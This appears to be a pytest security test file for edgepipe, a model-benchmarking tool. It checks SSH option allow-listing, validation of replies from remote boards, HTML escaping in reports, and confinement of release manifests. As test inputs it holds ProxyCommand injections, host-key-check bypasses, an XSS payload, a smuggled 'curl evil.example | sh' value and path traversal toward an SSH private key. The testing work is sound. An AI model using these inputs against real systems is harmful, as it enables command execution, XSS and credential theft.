"""A board and a release are data, never code or a way out: a target's ssh_options come from an allow-list,
a board's reply is checked against what the worker sends (and bounded) before anything uses it, a report
escapes every string it shows, and a release's manifest can only name files inside the release.

Every crafted input is made here; boards are a real sshd on 127.0.0.1 (host key checked against a
known_hosts file written here), and a "hostile board" is that sshd running a script as the board's Python.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from test_trust import _cli, _one_error_line

from edgepipe.config import Board, load_target
from edgepipe.errors import BenchmarkError, ConfigError


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def sshd(loopback_board: Board) -> Board:
    """The conftest's real sshd on 127.0.0.1 (key auth), its host key checked against a known_hosts file
    (no StrictHostKeyChecking=no, no /dev/null)."""
    return loopback_board


def _target_file(targets: Path, name: str, board: Board) -> Path:
    """A target file whose [board] is ``board`` (ssh_options written as TOML strings, escapes and all)."""
    targets.mkdir(exist_ok=True)
    opts = ", ".join(json.dumps(o) for o in board.ssh_options)  # a JSON string is a TOML basic string
    f = targets / f"{name}.toml"
    fields = "".join(f"{k} = {json.dumps(getattr(board, k))}\n" for k in ("host", "user", "port", "python", "workdir",
                                                                          "identity_file") if getattr(board, k))
    f.write_text(f'backend = "onnxruntime"\nprecision = "fp32"\n[board]\n{fields}ssh_options = [{opts}]\n')
    return f


# ---------------------------------------------------------------------------------------------------------
# item 2: ssh_options is an allow-list, parsed the way ssh parses -o

BYPASSES = [
    "ProxyCommand\tsh -c 'id > PWNED'",  # ssh splits on tabs too
    '"ProxyCommand" sh -c id',  # and takes the keyword in double quotes
    " ProxyCommand=sh -c id",
    "LocalCommand\tid",
    "XAuthLocation /tmp/x",
    "ForwardAgent yes",
    "RemoteForward 9000 localhost:22",
    "ProxyJump evil.example",
    "Hostname=evil.example",
    "StrictHostKeyChecking=no",
    "StrictHostKeyChecking accept-new",
    "UserKnownHostsFile=/dev/null",
    "BatchMode=no",  # edgepipe forces BatchMode=yes
    "Port 2222",  # board.port is the port
    "ConnectTimeout=5\nProxyCommand sh",
    "ConnectTimeout=5\rProxyCommand sh",
    "IdentityFile=/nonexistent/key",
    "Ciphers=aes128-ctr,+3des-cbc",
    "ConnectTimeout 5 extra",
]


@pytest.mark.parametrize("option", BYPASSES)
def test_ssh_options_outside_the_allow_list_are_refused_in_one_line(option):
    with pytest.raises(ConfigError) as e:
        Board(host="h", ssh_options=(option,))
    msg = str(e.value)
    assert msg.startswith(f"board.ssh_options: {option!r}") and "\n" not in msg
    assert "allowed: AddressFamily, " in msg and "put anything else in ~/.ssh/config" in msg


def test_a_link_to_dev_null_is_no_known_hosts_file(tmp_path):
    (tmp_path / "kh").symlink_to("/dev/null")
    with pytest.raises(ConfigError, match=r"UserKnownHostsFile takes an existing regular file"):
        Board(host="h", ssh_options=(f"UserKnownHostsFile {tmp_path / 'kh'}",))


@pytest.mark.parametrize("option", BYPASSES[:4] + ["StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null"])
def test_a_target_file_with_a_bypass_is_refused_at_load(option, tmp_path):
    f = _target_file(tmp_path, "t", Board(host="127.0.0.1", ssh_options=()))
    f.write_text(f.read_text().replace("ssh_options = []", f"ssh_options = [{json.dumps(option)}]"))
    with pytest.raises(ConfigError, match=r"t.toml.*board.ssh_options: .*put anything else in ~/.ssh/config"):
        load_target(f)


def test_tab_proxycommand_in_a_target_never_runs(tmp_path):
    """End to end: `edgepipe bench --device T`, T's [board] carrying the tab-separated ProxyCommand."""
    marker = tmp_path / "PWNED"
    model = tmp_path / "m.onnx"
    model.write_bytes(b"not a model: the refusal comes first")
    board = Board(host="127.0.0.1", port=_free_port())
    f = _target_file(tmp_path / "targets", "evilboard", board)
    f.write_text(f.read_text().replace("ssh_options = []", 'ssh_options = ["ProxyCommand\\tsh -c \'id > '
                                                            f'{marker}\'"]'))
    assert "ProxyCommand\\tsh" in f.read_text()  # the TOML escape: a real tab once parsed
    r = _cli("bench", str(model), "--device", "evilboard", env={"EDGEPIPE_TARGETS": str(tmp_path / "targets")})
    time.sleep(0.5)
    assert not marker.exists(), marker.read_text()
    line = _one_error_line(r)
    assert "evilboard.toml" in line and "ProxyCommand may not be set by a target file" in line


def test_allowed_options_are_normalized_and_still_reach_the_board(sshd, tmp_path, example_onnx):
    from edgepipe import api

    key, known = str(Path(sshd.identity_file).resolve()), str(Path(sshd.ssh_options[0].split("=", 1)[1]).resolve())
    opts = (f'"UserKnownHostsFile" {known}', "loglevel\tERROR", "ConnectTimeout = 5", f"IdentityFile={key}",
            "IdentitiesOnly yes", "ServerAliveInterval=15", "Compression no", "Ciphers=aes256-gcm@openssh.com,"
            "aes128-ctr", "IPQoS af21 cs1", "StrictHostKeyChecking=yes")
    b = Board(host=sshd.host, user=sshd.user, port=sshd.port, python=sshd.python, workdir=sshd.workdir,
              ssh_options=opts)
    assert b.ssh_args()[:8] == ["-o", f"UserKnownHostsFile={known}", "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5",
                                "-o", f"IdentityFile={key}"]
    f = _target_file(tmp_path / "targets", "goodboard", b)
    assert load_target(f).board == b
    m = api.bench(example_onnx.path, device=b, iterations=3, warmup=0)
    assert m.iterations == 3 and m.p50_ms > 0
    # host keys are checked: the same board with a known_hosts file that lacks its key is refused by ssh
    (tmp_path / "empty_known_hosts").write_text("")
    stranger = Board(host=sshd.host, user=sshd.user, port=sshd.port, python=sshd.python, workdir=sshd.workdir,
                     identity_file=key, ssh_options=(f"UserKnownHostsFile={tmp_path / 'empty_known_hosts'}",))
    with pytest.raises(BenchmarkError, match=r"Host key verification failed"):
        api.bench(example_onnx.path, device=stranger, iterations=1, warmup=0)


# ---------------------------------------------------------------------------------------------------------
# item 5: a board's reply is checked before it is used, and bounded; reports escape what they show

GOOD = {"ok": True, "iterations": 3, "warmup": 0, "batch": 1, "threads": None, "p50_ms": 1.0, "p90_ms": 1.0,
        "p99_ms": 1.0, "mean_ms": 1.0, "std_ms": 0.0, "min_ms": 1.0, "max_ms": 1.0, "throughput_per_s": 1000.0,
        "load_ms": 2.0, "baseline_rss_mb": 10.0, "peak_rss_mb": 11.0, "peak_rss_above_baseline_mb": 1.0,
        "device_memory_mb": None,
        "host": {"machine": "x86_64", "system": "Linux", "node": "b", "processor": "", "python": "3.11.7",
                 "emulated": None}}
XSS = "<img src=x onerror=alert(1)>"


def _hostile(sshd: Board, tmp: Path, reply: str, *, pad_mb: int = 0, status: int = 0) -> Board:
    """The real sshd with a board "Python" that is a script printing ``reply`` (after ``pad_mb`` MB of junk)."""
    (tmp / "reply.txt").write_text(reply)
    script = tmp / "board-python"
    pad = f"head -c {pad_mb * 10**6} /dev/zero | tr '\\0' x; echo\n" if pad_mb else ""
    script.write_text(f"#!/bin/sh\n{pad}cat {tmp / 'reply.txt'}\nexit {status}\n")
    script.chmod(0o755)
    return Board(host=sshd.host, user=sshd.user, port=sshd.port, python=str(script), workdir=sshd.workdir,
                 identity_file=sshd.identity_file, ssh_options=sshd.ssh_options)


def _with(**changes: object) -> str:
    return json.dumps({**GOOD, **changes})


REPLIES = {
    "emulated html": (_with(host={**GOOD["host"], "emulated": XSS}), r"host = .*emulated = .*expected one of null"),
    "unknown key": (_with(evil=1), r"unknown key 'evil'"),
    "string number": (_with(p50_ms="fast"), r"p50_ms = 'fast': expected a finite number"),
    "nan": (_with(p50_ms=float("nan")), r"p50_ms = nan: expected a finite number"),
    "bool count": (_with(iterations=True), r"iterations = True: expected an integer"),
    "long host": (_with(host={**GOOD["host"], "node": "n" * 300}), r"expected printable text of at most 256"),
    "no field": (json.dumps({k: v for k, v in GOOD.items() if k != "p50_ms"}), r"no 'p50_ms'"),
    "bad json": ('{"ok": true, "p50_ms": ', r"not what edgepipe's worker sends \(Expecting value"),
    "not an object": ("{}", r"expected an object with 'ok'"),
    "deep json": ("{" + '"a":[' * 100000 + "]" * 100000 + "}", r"not what edgepipe's worker sends"),
    "bad logits": (_with(eval={"top1": 0.5, "samples": 2, "logits": {"shape": [2, 10], "float32_b64": "AAAA"}}),
                   r"float32_b64: expected base64 of 2 x 10 float32 values"),
    "shell in missing": (json.dumps({"ok": False, "error": "x", "missing": "numpy' && curl evil.example | sh #"}),
                         r"missing = .*expected a Python package name"),
}


@pytest.mark.parametrize("case", list(REPLIES))
def test_a_hostile_boards_reply_is_refused_in_one_line(case, sshd, tmp_path):
    from edgepipe import api

    reply, why = REPLIES[case]
    model = tmp_path / "m.onnx"
    model.write_bytes(b"the board never loads it")
    board = _hostile(sshd, tmp_path, "\n" + reply + "\n")
    with pytest.raises(BenchmarkError, match=why) as e:
        api.bench(model, device=board, iterations=3, warmup=0)
    msg = str(e.value)
    assert "\n" not in msg and "pip install" not in msg


def test_a_missing_package_name_is_echoed_only_when_it_is_one(sshd, tmp_path):
    from edgepipe import api

    model = tmp_path / "m.onnx"
    model.write_bytes(b"x")
    board = _hostile(sshd, tmp_path, json.dumps({"ok": False, "error": "No module named 'numpy'", "missing": "numpy"}))
    with pytest.raises(BenchmarkError, match=r"has no 'numpy' module; install it there: .* -m pip install 'numpy=="):
        api.bench(model, device=board, iterations=1, warmup=0)


def test_a_worker_error_is_echoed_on_one_line(sshd, tmp_path):
    from edgepipe import api

    model = tmp_path / "m.onnx"
    model.write_bytes(b"x")
    board = _hostile(sshd, tmp_path, json.dumps({"ok": False, "error": "line one\nerror: spoofed\x1b[2J" + "y" * 5000}))
    with pytest.raises(BenchmarkError, match=r"failed in the worker: line one\\nerror: spoofed\\x1b\[2Jy+ \.\.\.$") as e:
        api.bench(model, device=board, iterations=1, warmup=0)
    assert len(str(e.value)) < 1200


def test_a_hostile_partial_line_from_a_dropped_board_is_not_a_traceback(sshd, tmp_path):
    from edgepipe import api

    model = tmp_path / "m.onnx"
    model.write_bytes(b"x")
    board = _hostile(sshd, tmp_path, json.dumps({"partial": {"phase": "timing", "iterations": 3, "p50_ms": "fast",
                                                             "mean_ms": 1.0}}) + "\n", status=3)
    with pytest.raises(BenchmarkError, match=r"running the worker failed: exit status 3; check that") as e:
        api.bench(model, device=board, iterations=1, warmup=0)
    assert getattr(e.value, "partial", None) is None


def test_an_oversized_reply_is_refused_unread(sshd, tmp_path):
    """100 MB of junk, then a valid result: refused after 16 MiB, without ever holding the rest (measured
    in a fresh process: its peak memory grows by far less than the reply)."""
    model = tmp_path / "m.onnx"
    model.write_bytes(b"x")
    board = _hostile(sshd, tmp_path, json.dumps(GOOD) + "\n", pad_mb=100)
    _target_file(tmp_path / "targets", "flood", board)
    code = ("import resource, sys; from edgepipe import api; from edgepipe.errors import BenchmarkError\n"
            "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
            "try:\n    api.bench(sys.argv[1], device='flood', iterations=1, warmup=0)\n    print('accepted')\n"
            "except BenchmarkError as e:\n    print(e)\n"
            "print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)\n")
    r = subprocess.run([sys.executable, "-c", code, str(model)], capture_output=True, text=True, timeout=300,
                       env={**os.environ, "EDGEPIPE_TARGETS": str(tmp_path / "targets")})
    assert r.returncode == 0, r.stderr
    error, grown_mb = r.stdout.splitlines()
    assert "the board's reply is larger than 16 MiB" in error and "refused unread" in error, r.stdout
    assert int(grown_mb) < 64, r.stdout


def test_bad_json_from_a_board_is_one_cli_line(sshd, tmp_path):
    model = tmp_path / "m.onnx"
    model.write_bytes(b"x")
    board = _hostile(sshd, tmp_path, '{"ok": true, "p50_ms": \n')
    _target_file(tmp_path / "targets", "hostile", board)
    line = _one_error_line(_cli("bench", str(model), "--device", "hostile",
                                env={"EDGEPIPE_TARGETS": str(tmp_path / "targets")}))
    assert "is not what edgepipe's worker sends" in line


def _index(emulated: str) -> dict[str, object]:
    """A release index (as ``release_index`` writes it) with one board-measured candidate."""
    cand = {"id": "c01", "recipe": "none", "settings": {"calibration": "minmax"}, "validation": None,
            "test": 90.0, "p50_ms": 1.5, "size_bytes": 1000, "emulated": emulated, "qualifies": True,
            "pareto": True, "why": "chosen: fastest qualifying"}
    return {"schema": 2, "model": "m", "search": {"name": "default"}, "search_sha256": "0" * 64,
            "targets": {"emuboard": {"status": "released", "backend": "onnxruntime", "reason": None, "budgets": {},
                                     "release_dir": "emuboard/", "chosen": "c01", "candidates": [cand],
                                     "reference": {"emulated": emulated}}}}


def test_release_report_escapes_what_a_board_said():
    from edgepipe.release import render_release_report

    page = render_release_report(_index(XSS))
    assert XSS not in page and "<img" not in page
    assert "emulated by &lt;img src=x onerror=alert(1)&gt;: function, not speed" in page
    assert "<script" not in render_release_report(_index("'><script>x</script>"))


def test_target_report_escapes_what_a_board_said():
    from edgepipe.release import render_report
    from edgepipe.types import Manifest

    lat = {**GOOD, "host": {**GOOD["host"], "emulated": XSS, "node": '"><script>alert(1)</script>'}}
    m = Manifest.from_dict({
        "target": {"name": "t", "description": XSS, "backend": "onnxruntime", "precision": "fp32"}, "inputs": {}, "tools": {"x": XSS}, "stages": [],
        "accuracy": {"top1": 0.9, "reference_top1": 0.9, "drop_points": 0.0, "dataset": "d", "samples": 1},
        "budgets": {}, "latency": lat,
        "artifact": {"backend": "onnxruntime", "precision": "fp32", "file": "m.onnx", "size_bytes": 1,
                     "files": [{"name": XSS, "sha256": "0", "bytes": 1}]}})
    page = render_report(m)
    assert "<img" not in page and "<script" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "&quot;&gt;&lt;script&gt;" in page


# ---------------------------------------------------------------------------------------------------------
# item 8: a release's manifest names only files inside the release


def _release(root: Path, names: list[str]) -> Path:
    """A release directory whose manifest's artifact is model.onnx plus ``names``."""
    root.mkdir(parents=True)
    (root / "model.onnx").write_bytes(b"an onnx model, as far as the manifest says")
    files = [{"name": n, "sha256": "0" * 64, "bytes": 1} for n in ["model.onnx", *names]]
    (root / "manifest.json").write_text(json.dumps({
        "schema": 1, "target": {"name": "cpu-fp32", "backend": "onnxruntime", "precision": "fp32"}, "inputs": {}, "tools": {}, "stages": [], "budgets": {},
        "accuracy": {"top1": 0.9, "reference_top1": 0.9, "drop_points": 0.0, "dataset": "d", "samples": 1},
        "artifact": {"backend": "onnxruntime", "precision": "fp32", "file": "model.onnx", "files": files,
                     "size_bytes": 1}}))
    return root


def _secret(tmp: Path) -> Path:
    (tmp / "home" / ".ssh").mkdir(parents=True)
    secret = tmp / "home" / ".ssh" / "id_ed25519"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY----- secret of the host\n")
    return secret


@pytest.mark.parametrize("how", ["dotdot", "absolute", "slash", "backslash", "empty", "dot", "nul", "link out",
                                 "missing", "directory"])
def test_a_manifest_naming_a_file_outside_its_release_is_refused(how, tmp_path):
    from edgepipe.release import artifact_from_release

    secret = _secret(tmp_path)
    rel = tmp_path / "rel"
    name = {"dotdot": "../home/.ssh/id_ed25519", "absolute": str(secret), "slash": "sub/x", "backslash": "..\\x",
            "empty": "", "dot": ".", "nul": "x\0y", "link out": "key", "missing": "absent.bin",
            "directory": "sub"}[how]
    _release(rel, [name])
    (rel / "sub").mkdir()
    (rel / "sub" / "x").write_text("x")
    (rel / "key").symlink_to(secret)
    with pytest.raises(ConfigError, match=r"manifest.json' names the file .*not a plain file name of a regular file "
                                          r"inside .*rebuild the release") as e:
        artifact_from_release(rel)
    assert repr(name) in str(e.value) and "\n" not in str(e.value)


def test_a_link_inside_the_release_is_fine(tmp_path):
    from edgepipe.release import artifact_from_release

    rel = _release(tmp_path / "rel", ["weights.bin"])
    (rel / "real.bin").write_bytes(b"w")
    (rel / "weights.bin").symlink_to("real.bin")
    art = artifact_from_release(rel)
    assert art is not None and [p.name for p in art.files] == ["model.onnx", "weights.bin"]


def test_bench_on_a_board_never_uploads_a_file_a_crafted_manifest_names(sshd, tmp_path):
    """`edgepipe bench DIR --device BOARD` with a manifest naming ../../<tmp>/home/.ssh/id_ed25519."""
    secret = _secret(tmp_path)
    rel = tmp_path / "dist" / "cpu-fp32"
    climb = "../" * (len(rel.resolve().parts) - 1) + str(secret.resolve()).lstrip("/")
    _release(rel, [climb])
    assert (rel / climb).resolve() == secret.resolve()
    _target_file(tmp_path / "targets", "board", sshd)
    r = _cli("bench", str(rel), "--device", "board", env={"EDGEPIPE_TARGETS": str(tmp_path / "targets")})
    there = Path(sshd.workdir)
    leaked = [p for p in there.rglob("*") if p.is_file() and p.read_bytes() == secret.read_bytes()] if there.exists() \
        else []
    assert not leaked, leaked
    line = _one_error_line(r)
    assert f"names the file {climb!r}" in line and "manifest.json" in line


def test_measure_remote_copies_only_the_artifacts_own_directory(tmp_path):
    from edgepipe.harness.remote import measure_remote
    from edgepipe.types import Artifact

    secret = _secret(tmp_path)
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "m.onnx").write_bytes(b"x")
    art = Artifact("onnxruntime", "fp32", tmp_path / "a" / "m.onnx", [tmp_path / "a" / "m.onnx", secret])
    with pytest.raises(ConfigError, match=r"is not in .*the artifact's directory"):
        measure_remote(art, Board(host="127.0.0.1", port=_free_port()))
